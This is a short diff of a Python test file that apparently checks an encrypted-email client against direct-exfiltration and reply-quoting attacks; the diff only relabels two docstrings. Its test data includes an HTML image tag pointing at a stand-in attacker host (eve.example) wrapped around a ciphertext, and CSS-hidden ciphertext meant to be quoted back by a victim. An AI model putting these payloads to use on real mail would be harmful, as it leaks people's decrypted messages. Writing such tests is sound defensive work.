@@ -53,7 +53,7 @@ def stays_closed(entity: bytes) -> None:
 @pytest.mark.parametrize("kind", MULTIPARTS)
 @pytest.mark.parametrize("place", [0, 1, 2])
 def test_e10_direct_exfiltration_around_a_ciphertext_opens_nothing(kind: str, place: int) -> None:
-    """E10: `<img src="http://eve/` before it and `">` behind it, wherever it stands."""
+    """E10, A09: `<img src="http://eve/` before it and `">` behind it, wherever it stands."""
     around = [html(b'<img src="http://eve.example/'), html(b'">')]
     around.insert(place, enveloped(SECRET))
     stays_closed(multipart(kind, *around))
@@ -67,7 +67,7 @@ def test_e10_a_lone_ciphertext_below_a_multipart_is_not_the_whole_body() -> None
 
 
 def test_e10_a_ciphertext_reused_in_a_reply_stays_closed() -> None:
-    """E10: covert content, hidden by CSS below an innocent question, quoted by the victim."""
+    """E10, A09: covert content, hidden by CSS below an innocent question, quoted by the victim."""
     question = html(b"<p>When do we meet?</p><div style='display:none'>")
     stays_closed(multipart("mixed", question, enveloped(SECRET), html(b"</div>")))
     named = enveloped(SECRET).replace(b"pkcs7-mime", b"octet-stream")
